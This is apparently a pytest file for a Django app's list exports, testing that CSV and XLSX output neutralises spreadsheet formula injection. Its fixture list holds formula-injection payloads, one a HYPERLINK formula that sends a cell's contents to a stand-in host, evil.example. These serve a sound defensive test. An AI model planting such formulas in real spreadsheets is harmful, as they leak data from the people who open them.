"""Exports never hand a spreadsheet a live formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kyoso.core.services import save_object
from kyoso.parties.models import Organisation

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)"]


@pytest.fixture
def hostile_organisations(db, user):
    for name in HOSTILE:
        save_object(Organisation(name=name, kind="company", size="sme", country="JP", is_domestic=True),
                    user=user("ipoffice"))


def test_csv_export_prefixes_formula_text_with_a_quote(hostile_organisations, login):
    response = login("ipoffice").get(reverse("parties:organisation_list"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = {row[0] for row in csv.reader(io.StringIO(text))}
    for name in HOSTILE:
        assert "'" + name in names
        assert name not in names


def test_xlsx_export_writes_formula_text_as_text(hostile_organisations, login):
    response = login("ipoffice").get(reverse("parties:organisation_list"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = {cell.value: cell.data_type for cell in sheet["A"]}
    for name in HOSTILE:
        assert cells["'" + name] == "s"  # a string cell, not a formula ("f")
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}


def test_ordinary_text_and_numbers_are_untouched():
    from kyoso.core.export import neutralise

    assert neutralise("Asahi Devices") == "Asahi Devices"
    assert neutralise("株式会社 朝日") == "株式会社 朝日"
    assert neutralise(-1200) == -1200
    assert neutralise("a=b") == "a=b"


def test_xlsx_text_is_escaped_and_cleaned_as_excel_reads_it():
    """Markup characters come back as typed; control characters Excel refuses are left out;
    ordinary text (the fast path) is written as it is."""
    from datetime import date
    from decimal import Decimal

    from kyoso.core.xlsx import xlsx_chunks

    rows = [["name", "note", "amount", "on"],
            ["R&D <Lab> \"A\"", "bell\x07 and tab\tkept", Decimal("-1200"), date(2026, 4, 1)],
            ["Asahi Devices", "", None, None]]
    sheet = load_workbook(io.BytesIO(b"".join(xlsx_chunks(rows, title="t")))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[1][:3] == ["R&D <Lab> \"A\"", "bell and tab\tkept", -1200]
    assert values[1][3].date() == date(2026, 4, 1)
    assert values[2] == ["Asahi Devices", None, None, None]


def _list_views():
    """(URL name, view class) of every list page with an export (every ObjectListView)."""
    from django.urls import get_resolver
    from django.urls.resolvers import URLPattern, URLResolver

    from kyoso.core.views import ObjectListView

    found = []

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern):
                view_class = getattr(pattern.callback, "view_class", None)
                if view_class and issubclass(view_class, ObjectListView) and pattern.name and not pattern.pattern.converters:
                    found.append((f"{namespace}:{pattern.name}" if namespace else pattern.name, view_class))

    walk(get_resolver().url_patterns, None)
    return found


@pytest.mark.parametrize("persona", ["ipoffice", "company-a"])
@pytest.mark.parametrize("language", ["en", "ja"])
def test_exported_values_are_the_rendered_tables_values_on_every_list(db, user, persona, language):
    """Read as values, every list exports exactly what django-tables2 gives cell by cell."""
    import django_tables2 as tables
    from django.test import RequestFactory
    from django.utils import translation

    from kyoso.core.surface import HIDDEN
    from kyoso.core.tables import _export_plan, export_rows, table_for

    views = _list_views()
    assert len(views) >= 20
    fast = set()
    for name, view_class in views:
        request = RequestFactory().get(reverse(name))
        request.user = user(persona)
        view = view_class()
        view.setup(request)
        queryset = view.scoped()
        table = table_for(
            view.table_class, queryset.order_by(*(queryset.query.order_by or queryset.model._meta.ordering or ["pk"])),
            request.user)
        with translation.override(language):
            expected = list(tables.Table.as_values(table, exclude_columns=getattr(table, "export_exclude", ())))
            hidden = getattr(table, "hidden_cells", {})
            if hidden:  # cells hidden row by row (another licensee's licence) are written as HIDDEN
                names = [c.name for c in table.columns.iterall() if not c.column.exclude_from_export]
                expected[1:] = [[HIDDEN if n in hidden and hidden[n](row.record) else v for n, v in zip(names, values, strict=True)]
                                for row, values in zip(table.rows, expected[1:], strict=True)]
            got = list(export_rows(table))
            columns = [c for c in table.columns.iterall() if not c.column.exclude_from_export]
            if _export_plan(table, columns) is not None:
                fast.add(view.model.__name__)
        assert got == expected, name
    # The big lists are read as values, never rendered row by row.
    assert {"Organisation", "Person", "Agreement", "Contribution", "Invention", "Filing", "Deadline"} <= fast
